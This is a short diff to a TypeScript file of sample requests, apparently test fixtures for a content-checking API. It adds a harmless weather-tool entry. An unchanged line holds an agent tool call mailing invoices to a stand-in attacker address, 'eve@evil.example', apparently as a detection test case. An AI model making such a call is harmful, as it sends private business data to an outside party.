@@ -18,6 +18,10 @@ const requests: ReadonlyArray<Example> = [
       call: { tool: "send_mail", arguments: { to: "eve@evil.example", body: "The invoices." } }
     }
   },
+  {
+    call: "checks.tools",
+    body: { tools: [{ name: "get_weather", description: "The weather of a place today." }] }
+  },
   { call: "checks.batch", body: { items: [{ id: "1", text }, { id: "2", text: "All is well." }] } },
   { call: "checks.stream", body: '{"id":"1","text":"All is well."}\n' },
   { name: "redacted", call: "checks.check", body: { text, redact: "token" } },
